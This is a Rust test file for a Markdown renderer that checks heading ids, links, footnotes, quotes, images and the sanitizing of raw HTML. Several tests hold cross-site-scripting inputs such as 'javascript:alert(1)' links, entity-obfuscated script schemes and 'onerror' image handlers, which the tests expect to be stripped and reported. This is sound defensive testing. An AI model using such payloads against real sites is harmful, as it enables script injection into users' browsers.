use super::*;
use crate::diagnostics::Severity;
use crate::document::{Link, LinkStyle};
use std::time::{Duration, Instant};

fn source(text: &str) -> Source {
    Source { path: "content/explainers/a.md".into(), text: text.to_owned() }
}

/// Scans and renders a body without front matter.
fn read(text: &str, trusted: bool) -> (Facts, Diagnostics, Body) {
    let (source, config) = (source(text), Config::default());
    let (mut facts, mut diagnostics) = (Facts::default(), Diagnostics::default());
    scan(&source, 0, trusted, &config, &Reading::default(), &mut facts, &mut diagnostics);
    let body = render(&source, 0, trusted, &facts, &config);
    let holes = |wanted: fn(Slot) -> bool| -> Vec<u32> {
        body.holes.iter().filter(|hole| wanted(hole.slot)).map(|hole| hole.link).collect()
    };
    let count = |count: usize| -> Vec<u32> { (0..count as u32).collect() };
    let of_a_link = |slot| matches!(slot, Slot::Href | Slot::Src | Slot::Poster | Slot::Value);
    assert_eq!(
        holes(of_a_link),
        count(facts.outgoing.len()),
        "scan and render number the links alike: {text:.200}"
    );
    let cites = |slot| slot == Slot::Citation;
    assert_eq!(holes(cites), count(facts.citations.len()), "and the citations: {text:.200}");
    let mut numbers = body
        .html
        .match_indices("class=\"quote\" id=\"quote-")
        .map(|(at, id)| body.html[at + id.len()..].split('"').next().and_then(|n| n.parse::<usize>().ok()));
    assert!((1..=facts.quotes.len()).all(|n| numbers.next() == Some(Some(n))), "{text:.200}");
    assert_eq!(numbers.next(), None, "scan and render number the quotes alike: {text:.200}");
    assert!(body.holes.is_sorted_by_key(|hole| hole.at));
    (facts, diagnostics, body)
}

fn of_a_speaker(slot: Slot) -> bool {
    matches!(slot, Slot::SpeakerStart | Slot::SpeakerEnd)
}

/// Fills each hole with the target as it was typed; speakers without a link have none.
fn filled(facts: &Facts, body: &Body) -> String {
    let mut html = String::new();
    body.fill(&mut html, |hole, out| {
        if hole.slot == Slot::Citation {
            return out.push_str(&format!("({})", facts.citations[hole.link as usize].id.value));
        }
        if of_a_speaker(hole.slot) {
            return;
        }
        if hole.slot == Slot::Alert {
            return out.push_str(ALERTS[hole.link as usize].1);
        }
        let link = &facts.outgoing[hole.link as usize];
        let mut address = format!("{}{}", link.target, link.query);
        if let Some(fragment) = &link.fragment {
            address.push('#');
            address.push_str(fragment);
        }
        hole.slot.write(out, &address);
    });
    html
}

#[track_caller]
fn check(text: &str, expected: &str) {
    let (facts, _, body) = read(text, false);
    assert_eq!(filled(&facts, &body).trim_end(), expected, "{text}");
}

#[track_caller]
fn check_trusted(text: &str, expected: &str) {
    let (facts, _, body) = read(text, true);
    assert_eq!(filled(&facts, &body).trim_end(), expected, "{text}");
}

/// Each finding as `name: the text at its place`.
#[track_caller]
fn check_findings(text: &str, expected: &[&str]) {
    let (_, diagnostics, _) = read(text, false);
    let found: Vec<String> = diagnostics
        .iter()
        .map(|d| {
            let span = d.place.span.unwrap();
            format!("{}: {}", d.finding.name(), &text[span.start as usize..span.end as usize])
        })
        .collect();
    assert_eq!(found, expected, "{text}");
}

#[test]
fn headings_have_ids_in_any_script() {
    check("## テスト", "<h2 id=\"テスト\">テスト</h2>");
    check("## What is *it*?", "<h2 id=\"what-is-it\">What is <em>it</em>?</h2>");
    check("## A\n\n## A\n\n## B {#a}", "<h2 id=\"a-2\">A</h2>\n<h2 id=\"a-3\">A</h2>\n<h2 id=\"a\">B</h2>");
    check("## !!", "<h2 id=\"section\">!!</h2>");
    check("## X {#a&b;c .big}", "<h2 id=\"a-b-c\">X</h2>");
    check_trusted("## X {#y .big}", "<h2 id=\"y\" class=\"big\">X</h2>");
    check("Text\n\n# Late", "<p>Text</p>\n<h2 id=\"late\">Late</h2>");
    check("> ## In a quote", "<blockquote>\n<h2 id=\"in-a-quote\">In a quote</h2>\n</blockquote>");
    let (facts, ..) = read("## A `b` [c](d)\n\n### E {#x}\n", false);
    let headings: Vec<_> = facts.headings.iter().map(|h| (h.level, h.id.as_str(), h.text.as_str())).collect();
    assert_eq!(headings, [(2, "a-b-c", "A b c"), (3, "x", "E")]);
}

#[test]
fn a_first_heading_is_the_title_and_leaves_the_body() {
    let text = "# The *title* [a](b.md)[^1]\n\nText [c](d.md).[^1]\n\n[^1]: Note.\n";
    let (facts, _, body) = read(text, false);
    assert_eq!(facts.title, "The title a");
    assert_eq!(&text[facts.title_span.unwrap().start as usize..][..5], "The *");
    assert_eq!(facts.outgoing.len(), 1);
    assert!(facts.headings.is_empty());
    assert!(
        !body.html.contains("<h1")
            && body.html.contains("id=\"fnref-1\"")
            && !body.html.contains("fnref-1-2"),
        "{}",
        body.html
    );

    let (facts, ..) = read("Title\n=====\n\nText", false);
    assert_eq!((facts.title.as_str(), facts.title_span), ("Title", Some(Span::new(0, 5))));
    let (facts, ..) = read("#\n\nText", false);
    assert_eq!((facts.title.as_str(), facts.headings.len()), ("", 1));
    let long = format!("# {}", "x".repeat(301));
    let (_, diagnostics, _) = read(&long, false);
    assert_eq!(diagnostics.iter().map(|d| d.finding).collect::<Vec<_>>(), [Finding::OverLimit]);
    let (facts, ..) = read("Text\n\n# Not first", false);
    assert_eq!(facts.title, "");
}

#[test]
fn only_the_title_is_a_heading_of_level_one() {
    check("Text\n\n## A\n\n### B", "<p>Text</p>\n<h2 id=\"a\">A</h2>\n<h3 id=\"b\">B</h3>");
    check(
        "Text\n\n## A\n\n# B\n\n###### C",
        "<p>Text</p>\n<h3 id=\"a\">A</h3>\n<h2 id=\"b\">B</h2>\n<h6 id=\"c\">C</h6>",
    );
    check(
        "> # [A](a.md)\n>\n> — B\n\n![b](b.svg \"B\")\n\n## C",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<h2 id=\"a\"><a href=\"a.md\">A</a></h2>\n</blockquote>\n\
         <figcaption>— B</figcaption>\n</figure>\n\
         <figure><img src=\"b.svg\" alt=\"b\" loading=\"lazy\" decoding=\"async\">\n\
         <figcaption>B</figcaption></figure>\n<h3 id=\"c\">C</h3>",
    );
    check("Text <h1>A</h1>\n\n<h1>B</h1>", "<p>Text <h2>A</h2></p>\n<h2>B</h2>");
    check_trusted("<h1>A</h1>", "<h1>A</h1>");
    let (facts, ..) = read("# Title\n\n# A\n\n## B\n", false);
    assert_eq!(facts.headings.iter().map(|h| h.level).collect::<Vec<_>>(), [2, 3]);
    let (.., body) = read("Text[^1]\n\n## A\n\n[^1]:\n    # In a note\n", false);
    assert!(body.html.contains("<h2 id=\"a\">") && body.html.contains("<h2>In a note</h2>"), "{}", body.html);
}

#[test]
fn a_title_in_the_front_matter_keeps_other_headings_in_the_body() {
    for (body, html) in [
        ("# It’s here\n\nText", "<p>Text</p>\n"),
        ("# Another\n\nText", "<h2 id=\"another\">Another</h2>\n<p>Text</p>\n"),
    ] {
        let front = "title: It's here\n";
        let (source, config) = (source(&format!("{front}{body}")), Config::default());
        let mut facts =
            Facts { title: "It's here".into(), title_span: Some(Span::new(7, 16)), ..Facts::default() };
        scan(
            &source,
            front.len(),
            false,
            &config,
            &Reading::default(),
            &mut facts,
            &mut Diagnostics::default(),
        );
        assert_eq!(facts.title_span, Some(Span::new(7, 16)));
        assert_eq!(render(&source, front.len(), false, &facts, &config).html, html);
    }
}

#[test]
fn a_title_made_from_the_file_name_yields_to_the_heading() {
    let (source, config) = (source("# Real\n\nText"), Config::default());
    let mut facts = Facts { title: "a".into(), ..Facts::default() };
    scan(&source, 0, false, &config, &Reading::default(), &mut facts, &mut Diagnostics::default());
    assert_eq!(facts.title, "Real");
    assert_eq!(render(&source, 0, false, &facts, &config).html, "<p>Text</p>\n");
}

fn link(
    style: LinkStyle,
    target: &str,
    query: &str,
    fragment: Option<&str>,
) -> (LinkStyle, String, String, Option<String>) {
    (style, target.to_owned(), query.to_owned(), fragment.map(str::to_owned))
}

#[test]
fn links_into_the_site_are_facts_with_holes() {
    use LinkStyle::{Image, Path, Wiki, WikiImage};
    for (text, expected) in [
        ("[a](../people/x%20y.md#early-life)", link(Path, "../people/x y.md", "", Some("early-life"))),
        ("[a](/people/x/?q=1&r=2#%E3%83%86)", link(Path, "/people/x/", "?q=1&r=2", Some("テ"))),
        ("[a](#here)", link(Path, "", "", Some("here"))),
        ("[[Xi Jinping]]", link(Wiki, "Xi Jinping", "", None)),
        ("[[NOTE TWO#link with space]]", link(Wiki, "NOTE TWO", "", Some("link with space"))),
        ("[[xi|the president]]", link(Wiki, "xi", "", None)),
        ("[[#Local heading]]", link(Wiki, "", "", Some("Local heading"))),
        ("[[a##b]]", link(Wiki, "a", "", Some("b"))),
        ("| a |\n|---|\n| [[x\\|y]] |", link(Wiki, "x", "", None)),
        ("![a](b.png)", link(Image, "b.png", "", None)),
        ("![[img.png]]", link(WikiImage, "img.png", "", None)),
        ("[r]\n\n[r]: ./x.md", link(Path, "./x.md", "", None)),
        ("a <a href='x.md?y'>b</a>", link(Path, "x.md", "?y", None)),
        ("<img src=x.png alt=''>", link(Image, "x.png", "", None)),
    ] {
        let (facts, ..) = read(text, false);
        let found: Vec<_> =
            facts.outgoing.into_iter().map(|l| (l.style, l.target, l.query, l.fragment)).collect();
        assert_eq!(found, [expected], "{text}");
    }
}

#[test]
fn a_link_knows_where_its_target_stands() {
    for (text, target) in [
        ("[a](../x.md#f \"t\")", "../x.md#f"),
        ("[a](<x y.md>)", "x y.md"),
        ("a [[N|b]]", "N"),
        ("[r]\n\n[r]: ./x.md", "./x.md"),
        ("![a](b.png)", "b.png"),
        ("<p>\n<a id=1 href=\"x.md\">b</a>", "x.md"),
        ("> <p>\n> <a href='x.md'>b</a>", "x.md"),
        ("[a](x&amp;y.md)", "[a](x&amp;y.md)"),
    ] {
        let (facts, ..) = read(text, false);
        let span = facts.outgoing[0].span;
        assert_eq!(&text[span.start as usize..span.end as usize], target, "{text}");
    }
}

#[test]
fn links_are_shown_with_their_words() {
    check("[a *b*](x.md \"t\")", "<p><a href=\"x.md\" title=\"t\">a <em>b</em></a></p>");
    check(
        "[[Page#Part]] [[#Part]] [[p|*w*]]",
        "<p><a href=\"Page#Part\">Page</a> <a href=\"#Part\">Part</a> <a href=\"p\"><em>w</em></a></p>",
    );
    check(
        "| a |\n|---|\n| [[x\\|y]] |",
        "<div class=\"table\" tabindex=\"0\">\n<table>\n<thead><tr><th scope=\"col\">a</th></tr></thead>\n<tbody>\n<tr><td><a href=\"x\">y</a></td></tr>\n</tbody></table>\n</div>",
    );
    check(
        "<https://a.org/?b&c>, [d](HTTP://e.org)",
        "<p><a href=\"https://a.org/?b&amp;c\">https://a.org/?b&amp;c</a>, <a href=\"HTTP://e.org\">d</a></p>",
    );
    check("<x@y.org>", "<p><a href=\"mailto:x@y.org\">x@y.org</a></p>");
}

#[test]
fn addresses_that_run_code_are_dropped_and_reported() {
    check("[x](javascript:alert(1)) y", "<p>x y</p>");
    check("![x](data:image/png;base64,AA)", "<p>x</p>");
    check_trusted("[x](javascript:alert(1))", "<p><a href=\"javascript:alert(1)\">x</a></p>");
    check_findings("[x](javascript:alert(1)) y", &["unsafe-url: javascript:alert(1)"]);
    check_findings("[x](//host/p)", &["unsafe-url: //host/p"]);
    check_findings("![x](mailto:a@b.org)", &["unsafe-url: mailto:a@b.org"]);
    check_findings("[x](java&#115;cript:y)", &["unsafe-url: [x](java&#115;cript:y)"]);
    check_findings("a <a href=\"jAvA&Tab;script&colon;1\">b</a>", &["unsafe-url: jAvA&Tab;script&colon;1"]);
    assert_eq!(read("[x](javascript:alert(1))", true).1.iter().count(), 0);
}

#[test]
fn images_wait_for_their_address_and_load_late() {
    check(
        "a ![b \"c\"](d.png) e",
        "<p>a <img src=\"d.png\" alt=\"b “c”\" loading=\"lazy\" decoding=\"async\"> e</p>",
    );
    check(
        "![b](d.png \"t\")",
        "<figure><img src=\"d.png\" alt=\"b\" loading=\"lazy\" decoding=\"async\">\n<figcaption>t</figcaption></figure>",
    );
    check("![b](d.png)", "<p><img src=\"d.png\" alt=\"b\" loading=\"lazy\" decoding=\"async\"></p>");
    check(
        "![b](d.png \"t\") x",
        "<p><img src=\"d.png\" alt=\"b\" loading=\"lazy\" decoding=\"async\" title=\"t\"> x</p>",
    );
    check(
        "x ![b](d.png \"t\")",
        "<p>x <img src=\"d.png\" alt=\"b\" loading=\"lazy\" decoding=\"async\" title=\"t\"></p>",
    );
    check(
        "[![b](d.png \"t\")](e.md)",
        "<p><a href=\"e.md\"><img src=\"d.png\" alt=\"b\" loading=\"lazy\" decoding=\"async\" title=\"t\"></a></p>",
    );
    check(
        "![[m.png|300x200]]",
        "<p><img src=\"m.png\" alt=\"\" width=\"300\" loading=\"lazy\" decoding=\"async\"></p>",
    );
    check("![[m.png|A map]]", "<p><img src=\"m.png\" alt=\"A map\" loading=\"lazy\" decoding=\"async\"></p>");
    check(
        "![a [b](c) `d`](e.png)",
        "<p><img src=\"e.png\" alt=\"a b d\" loading=\"lazy\" decoding=\"async\"></p>",
    );
    check_findings("![](d.png)", &["missing-alt: ![](d.png)"]);
    check_findings("<img src=d.png>", &["missing-alt: <img"]);
    check_findings("<img src=d.png alt>", &[]);
}

#[test]
fn footnotes_are_numbered_by_first_mention_and_linked_both_ways() {
    check(
        "A[^b] b[^a] c[^b].\n\n[^a]: First *a*.\n\n[^b]: Second [x](y.md).\n",
        "<p>A<sup class=\"footnote-ref\"><a id=\"fnref-1\" href=\"#fn-1\" role=\"doc-noteref\">a</a></sup> \
         b<sup class=\"footnote-ref\"><a id=\"fnref-2\" href=\"#fn-2\" role=\"doc-noteref\">b</a></sup> \
         c<sup class=\"footnote-ref\"><a id=\"fnref-1-2\" href=\"#fn-1\" role=\"doc-noteref\">a</a></sup>.</p>\n\
         <section class=\"footnotes\" role=\"doc-endnotes\">\n<ol type=\"a\">\n\
         <li id=\"fn-1\">\n<p>Second <a href=\"y.md\">x</a>. <a href=\"#fnref-1\" class=\"footnote-back\" role=\"doc-backlink\">↩\u{fe0e}</a> \
         <a href=\"#fnref-1-2\" class=\"footnote-back\" role=\"doc-backlink\">↩\u{fe0e}<sup>2</sup></a></p>\n</li>\n\
         <li id=\"fn-2\">\n<p>First <em>a</em>. <a href=\"#fnref-2\" class=\"footnote-back\" role=\"doc-backlink\">↩\u{fe0e}</a></p>\n</li>\n\
         </ol>\n</section>",
    );
}

#[test]
fn footnotes_may_refer_to_each_other_and_to_themselves() {
    let (facts, _, body) =
        read("A[^1]\n\n[^1]: see[^2] and [l](m.md) and[^1]\n\n[^2]: [n](o.md) back[^1]\n", false);
    let ids: Vec<&str> = body.html.split("id=\"").skip(1).map(|s| s.split('"').next().unwrap()).collect();
    assert_eq!(ids, ["fnref-1", "fn-1", "fnref-2", "fnref-1-2", "fn-2", "fnref-1-3"]);
    let targets: Vec<&str> = facts.outgoing.iter().map(|l| l.target.as_str()).collect();
    assert_eq!(targets, ["m.md", "o.md"]);
    assert!(filled(&facts, &body).contains("<a href=\"o.md\">n</a>"));
}

#[test]
fn footnotes_without_their_other_half_are_reported() {
    check_findings("A [^x] b\n", &["undefined-footnote: [^x]"]);
    check_findings("A\\[^x] `[^y]` $[^z]$\n", &[]);
    check_findings("A\n\n[^x]: [l](javascript:1)\n", &["unsafe-url: javascript:1", "unused-footnote: [^x]:"]);
    check_findings("A[^X]\n\n[^x]: a\n\n[^x]: b\n", &["unused-footnote: [^x]:"]);
    check("A [^x] b", "<p>A [^x] b</p>");
    let (facts, _, body) = read("A\n\n[^x]: [l](m.md)\n\n    ## H\n", false);
    assert!(facts.outgoing.is_empty() && facts.headings.is_empty() && !body.html.contains("section"));
}

#[test]
fn two_sections_of_one_name_and_footnotes_out_of_order_keep_all_ids_unique() {
    let text =
        "## Content\n\nA[^b] b[^a] c[^b].\n\n## Content\n\n## fn 1\n\n[^a]: A.\n\n[^b]: B.\n\n[^c]: C.\n";
    let (_, diagnostics, body) = read(text, false);
    let mut ids: Vec<&str> =
        body.html.split(" id=\"").skip(1).map(|s| s.split('"').next().unwrap()).collect();
    let count = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), count);
    let names: Vec<_> = diagnostics.iter().map(|d| d.finding.name()).collect();
    assert_eq!(names, ["unused-footnote"]);
}

#[test]
fn a_speaker_without_a_link_has_holes_for_one() {
    let (_, _, body) = read("> A [x](x)\n>\n> — B & C, 2023 [y](y)\n", false);
    let mut html = String::new();
    body.fill(&mut html, |hole, out| match hole.slot {
        Slot::Href => out.push_str(" href"),
        slot => slot.write(out, &format!("/p?{}", hole.link)),
    });
    let caption = "<figcaption>— <a href=\"/p?0\">B &amp; C</a>, 2023 <a href>y</a></figcaption>";
    assert!(html.contains(caption), "{html}");
}

#[test]
fn quotes_with_a_source_are_figures() {
    check(
        "> Said so.\n>\n> — [[Ada]], *Post*",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<p>Said so.</p>\n</blockquote>\n<figcaption>— <a href=\"Ada\">Ada</a>, <em>Post</em></figcaption>\n</figure>",
    );
    check(
        "> A\n>\n> -- B",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<p>A</p>\n</blockquote>\n<figcaption>— B</figcaption>\n</figure>",
    );
    check(
        "> A\n> — [[Ada]], *Post*, 4 May 1843 [@a]\n\n> B\\\n> — C D, 2023-05",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<p>A</p>\n</blockquote>\n<figcaption>— <a href=\"Ada\">Ada</a>, <em>Post</em>, <time datetime=\"1843-05-04\">4 May 1843</time><sup class=\"footnote-ref cite\">(a)</sup></figcaption>\n</figure>\n\
         <figure class=\"quote\" id=\"quote-2\">\n<blockquote>\n<p>B</p>\n</blockquote>\n<figcaption>— C D, <time datetime=\"2023-05\">2023-05</time></figcaption>\n</figure>",
    );
    check(
        "> A\n>\n> *— B*",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<p>A</p>\n</blockquote>\n<figcaption><em>— B</em></figcaption>\n</figure>",
    );
    check(
        "> A [x](x)\n> — B, <b title=\"2023-05-06\">C</b> [2023-05-06](y)\n\n[z](z)",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<p>A <a href=\"x\">x</a></p>\n</blockquote>\n<figcaption>— B, <b title=\"2023-05-06\">C</b> <a href=\"y\"><time datetime=\"2023-05-06\">2023-05-06</time></a></figcaption>\n</figure>\n<p><a href=\"z\">z</a></p>",
    );
    check(
        "> A\n>\n> — B\n\n## Quote 1\n\n## Quote of the day",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<p>A</p>\n</blockquote>\n<figcaption>— B</figcaption>\n</figure>\n<h2 id=\"section-quote-1\">Quote 1</h2>\n<h2 id=\"quote-of-the-day\">Quote of the day</h2>",
    );
    check("> A", "<blockquote>\n<p>A</p>\n</blockquote>");
    check("> — B", "<blockquote>\n<p>— B</p>\n</blockquote>");
    check("> — B\n>\n> A", "<blockquote>\n<p>— B</p>\n<p>A</p>\n</blockquote>");
    check(
        "> A\n>\n> — B\n>\n> - C",
        "<blockquote>\n<p>A</p>\n<p>— B</p>\n<ul>\n<li>C</li>\n</ul>\n</blockquote>",
    );
    check("> A\n>\n> —", "<blockquote>\n<p>A</p>\n<p>—</p>\n</blockquote>");
    check(
        "> > A [x](x)\n> >\n> > — B\n>\n> — [C](c)",
        "<figure class=\"quote\" id=\"quote-1\">\n<blockquote>\n<figure class=\"quote\">\n<blockquote>\n<p>A <a href=\"x\">x</a></p>\n</blockquote>\n<figcaption>— B</figcaption>\n</figure>\n</blockquote>\n<figcaption>— <a href=\"c\">C</a></figcaption>\n</figure>",
    );
}

#[test]
fn blocks_have_their_html() {
    check(
        "> [!NOTE]\n> A",
        "<aside class=\"alert alert-note\">\n<p class=\"alert-title\">alert_note</p>\n<p>A</p>\n</aside>",
    );
    check(
        "- [ ] a\n- [x] b *c*\n  - d",
        "<ul>\n<li class=\"task\"><label><input type=\"checkbox\" disabled> a</label></li>\n<li class=\"task\"><label><input type=\"checkbox\" disabled checked> b <em>c</em></label>\n<ul>\n<li>d</li>\n</ul>\n</li>\n</ul>",
    );
    check(
        "- [ ] a\n\n- [x] b",
        "<ul>\n<li>\n<p><label><input type=\"checkbox\" disabled> a</label></p>\n</li>\n<li>\n<p><label><input type=\"checkbox\" disabled checked> b</label></p>\n</li>\n</ul>",
    );
    check("a\n: b", "<dl>\n<dt>a</dt>\n<dd>b</dd>\n</dl>");
    check("~~a~~ `b` -- \"c\"...", "<p><del>a</del> <code>b</code> – “c”…</p>");
    check(
        "$a<b$ $$c$$",
        "<p><span class=\"math inline\">a&lt;b</span> <span class=\"math display\">c</span></p>",
    );
    check("$$\nc\n$$", "<div class=\"math display\">\nc\n</div>");
    check("$5 and $6", "<p>$5 and $6</p>");
    check(
        "||b|\n|---|:-:|\n|c|d|",
        "<div class=\"table\" tabindex=\"0\">\n<table>\n<thead><tr><td></td><th scope=\"col\" class=\"center\">b</th></tr></thead>\n<tbody>\n<tr><td>c</td><td class=\"center\">d</td></tr>\n</tbody></table>\n</div>",
    );
    check("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>");
    check("a  \nb\n\n---", "<p>a<br>\nb</p>\n<hr>");
    check("x\n\n---\na: 1\n---\n", "<p>x</p>\n<hr>\n<h2 id=\"a-1\">a: 1</h2>");
    check("H~2~O x^2^", "<p>H~2~O x^2^</p>");
}

#[test]
fn code_is_highlighted_in_known_languages() {
    check(
        "```rust\nlet a;\n```",
        "<pre class=\"code\" tabindex=\"0\" data-lang=\"rust\"><code><span class=\"hl-keyword\">let</span> a;\n</code></pre>",
    );
    check("```\n<b>\n```", "<pre class=\"code\" tabindex=\"0\"><code>&lt;b&gt;\n</code></pre>");
    check("    a\n", "<pre class=\"code\" tabindex=\"0\"><code>a\n</code></pre>");
    check(
        "```rsut,x\n{{ a }}\n```",
        "<pre class=\"code\" tabindex=\"0\" data-lang=\"rsut\"><code>{{ a }}\n</code></pre>",
    );
    check(
        "```\"><script>\nx\n```",
        "<pre class=\"code\" tabindex=\"0\" data-lang=\"&quot;&gt;&lt;script&gt;\"><code>x\n</code></pre>",
    );
    check_findings("```pyhton\nx\n```\n\n```pyhton\ny\n```", &["unknown-language: pyhton"]);
    check_findings("```text\nx\n```\n\n```\ny\n```", &[]);
    let long = format!("```json\n\"{}\"\n```", "x\n".repeat(70_000));
    check_findings(&long, &["highlight-given-up: json"]);
    let (_, diagnostics, _) = read("```pyhton\nx\n```", false);
    assert_eq!(diagnostics.iter().next().unwrap().help.as_deref(), Some("did you mean `python`?"));
}

#[test]
fn template_syntax_is_text() {
    for text in ["{{ x }}", "{% raw %}", "{% include 'a' %}", "{# c #}"] {
        check(text, &format!("<p>{}</p>", text.replace("'a'", "‘a’")));
    }
    check("{{< youtube id >}}", "<p>{{&lt; youtube id &gt;}}</p>");
}

#[test]
fn raw_html_of_a_page_without_trust_is_made_anew() {
    check("<div class=x id=y>\n\n*a*\n\n</div>", "<div id=\"y\">\n<p><em>a</em></p>\n</div>");
    check(
        "<details open><summary>S</summary>\n\n- a\n\n</details>",
        "<details open=\"\"><summary>S</summary>\n<ul>\n<li>a</li>\n</ul>\n</details>",
    );
    check("a <kbd title='\"'>b</kbd> <sup>c</sup>", "<p>a <kbd title=\"&quot;\">b</kbd> <sup>c</sup></p>");
    check("a <script>alert(1)</script> b", "<p>a alert(1) b</p>");
    check("<script>\nalert('<b>')\n</script>\n\nb", "<p>b</p>");
    check("<style>p { }</style>x", "x");
    check("a <!-- c --> b&nbsp;c", "<p>a  b\u{a0}c</p>");
    check("<!-- c -->\n\na", "<p>a</p>");
    check("<p>&nbsp;&copy; a & b</p>", "<p>&nbsp;&copy; a &amp; b</p>");
    check(
        "a <img src=x onerror=alert(1)>",
        "<p>a <img src=\"x\" alt=\"\" loading=\"lazy\" decoding=\"async\"></p>",
    );
    check("<a href=\"javascript:1\" onclick=2>x</a>", "<p><a>x</a></p>");
    check("<a href=\"https://a.b/?c&d\">x</a>", "<p><a href=\"https://a.b/?c&amp;d\">x</a></p>");
    check("<iframe src=x></iframe>\n\nb", "<p>b</p>");
    check("<form action=x><input name=y><button>b</button></form>", "b");
    check("<svg>\n<style><img src=x></style></svg>\n\nb", "<p>b</p>");
    check("<DIV\ntitle = a>b</DIV>", "<div title=\"a\">b</div>");
    check(
        "<img srcset=\"a.png 1x, https://b.c/d.png 2x, javascript:1 3x\" alt=a src=a.png>",
        "<img alt=\"a\" src=\"a.png\" srcset=\"a.png 1x, https://b.c/d.png 2x\" loading=\"lazy\" decoding=\"async\">",
    );
    check(
        "<video poster=p.png controls><source src=v.mp4></video>",
        "<p><video poster=\"p.png\" controls=\"\"><source src=\"v.mp4\"></video></p>",
    );
}

#[test]
fn ids_of_raw_html_are_kept_apart_from_all_others() {
    check("<p id=\"Odd 'x'\" name=y>a</p>", "<p id=\"Odd--x-\">a</p>");
    check(
        "## A\n\n<a name=a></a><b id=a>",
        "<h2 id=\"a\">A</h2>\n<p><a id=\"a-2\"></a><b id=\"a-3\"></b></p>",
    );
    check("<a id=a name=b>c</a><p id=\" \">", "<p><a id=\"a\">c</a><p></p></p>");
    let (facts, _, body) = read("<i id=main></i>[^1]\n\n[^1]: <i id=b></i>\n", false);
    assert_eq!(facts.anchors, ["section-main"]);
    assert!(
        body.html.contains("<i id=\"section-main\">") && !body.html.contains("id=\"b\""),
        "{}",
        body.html
    );
    assert_eq!(read("<script>1</script><p id='x y'><a name=z>", true).0.anchors, ["x y", "z"]);
}

#[test]
fn raw_html_cannot_reach_beyond_its_place() {
    check("a </p></div></body> b", "<p>a  b</p>");
    check("> <div>\n\nb", "<blockquote>\n<div>\n</div></blockquote>\n<p>b</p>");
    check("- <b>x\n- y", "<ul>\n<li><b>x</b></li>\n<li>y</li>\n</ul>");
    check("*a <b>c* d</b>", "<p><em>a <b>c</b></em> d</p>");
    check("<div>\n\na</div>", "<div>\n<p>a</p>\n</div>");
    check("<b><i>x</b></i>", "<p><b><i>x</i></b></p>");
    check("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>");
    check("<li>a", "a");
    check(
        "<table><tr><td>a<td>b<tr><td>c</table>",
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>",
    );
    check("<td>a", "a");
    check("a <td>b</td>", "<p>a b</p>");
    check(
        "- [ ] a <b>c\n  - d",
        "<ul>\n<li class=\"task\"><label><input type=\"checkbox\" disabled> a <b>c</b></label>\n<ul>\n<li>d</li>\n</ul>\n</li>\n</ul>",
    );
    check("<div>\n\nx", "<div>\n<p>x</p>\n</div>");
    let (_, _, body) = read("A[^1]</li></ol>\n\n[^1]: <div>\n\n    </section></li>B\n", false);
    assert!(body.html.contains("<li id=\"fn-1\">\n<div>\nB\n</div> <a href"), "{}", body.html);
}

#[test]
fn what_is_taken_out_is_reported_once_with_its_place() {
    check_findings(
        "<script>a</script>\n\n<script>b</script>\n\nc <font>d</font>",
        &["unsafe-html: script", "unsafe-html: font"],
    );
    check_findings("<p style=\"a\" onclick='b'>c</p>", &["unsafe-html: a", "unsafe-html: b"]);
    check_findings("<p>&nbsp;</p> <!-- a -->\n\n&mdash; <br> <p align=center>", &[]);
    check_findings("> <p>\n> <font>", &["unsafe-html: font"]);
}

#[test]
fn raw_html_of_a_trusted_page_is_as_typed_but_for_its_links() {
    check_trusted("<div class=x id=y>\n\n*a*\n\n</div>", "<div class=x id=y>\n<p><em>a</em></p>\n</div>");
    check_trusted("<script>if (a<b) { '<a href=x>' }</script>", "<script>if (a<b) { '<a href=x>' }</script>");
    check_trusted(
        "<a class='b' href='../c.md#d' id=e>f</a>",
        "<p><a href=\"../c.md#d\" class='b' id=e>f</a></p>",
    );
    check_trusted("<iframe src=\"https://a.b\"></iframe>", "<iframe src=\"https://a.b\"></iframe>");
    check_trusted(
        "<img src=a.png srcset='b.png 2x' width=3>",
        "<img src=\"a.png\" srcset=\"b.png 2x\" width=3>",
    );
    check_trusted(
        "<a href=\"https://a.b\">c</a> <a href=javascript:d()>e</a>",
        "<p><a href=\"https://a.b\">c</a> <a href=javascript:d()>e</a></p>",
    );
    assert!(read("<script>a</script><p onclick=b>", true).1.is_empty());
}

#[test]
fn a_link_carries_its_sentence() {
    for (text, sentence, words, section) in [
        ("One. See [the *page*](x.md) for more. Two.", "See the page for more.", "the page", None),
        ("## A\n\n## B\n\n- see [x](x.md)\n- not this", "see x", "x", Some(1)),
        ("| a | b |\n|---|---|\n| c | d [e](f.md) |", "d e", "e", None),
        ("Said [[Ada Abbott]]. Then", "Said Ada Abbott.", "Ada Abbott", None),
        ("a <a href='x.md'>b c</a> d", "a b c d", "b c", None),
        ("## A [b](c.md)", "A b", "b", Some(0)),
        ("T\n: d [b](c.md)", "d b", "b", None),
        ("[![i](i.png) b](c.md)", "b", "b", None),
    ] {
        let (facts, ..) = read(text, false);
        let link: &Link = facts.outgoing.iter().find(|l| l.sentence.is_some()).expect(text);
        let found = link.sentence.as_ref().unwrap();
        let mark = &found.text[found.mark.start as usize..found.mark.end as usize];
        assert_eq!((found.text.trim(), mark, found.section), (sentence, words, section), "{text}");
    }
    let (facts, ..) = read("[![i](i.png)](c.md)\n\n![x](y.png) [](z.md)\n\nText.", false);
    assert!(facts.outgoing.iter().all(|link| link.sentence.is_none()));
}

#[test]
fn the_excerpt_is_the_first_paragraph_of_the_text() {
    for (text, excerpt) in [
        ("## H\n\n> quote\n\nFirst *one*\nhere.\n\nSecond.", "First one here."),
        ("> Said.\n>\n> — Ada", "Said."),
        ("> — Ada", ""),
        ("```\ncode\n```\n\n![alt](x.png)\n\nText [[P|w]]", "Text w"),
        ("- item", ""),
        ("A[^1].\n\n[^1]: note", "A."),
    ] {
        assert_eq!(read(text, false).0.excerpt, excerpt, "{text}");
    }
}

#[test]
fn words_math_and_code_are_noted() {
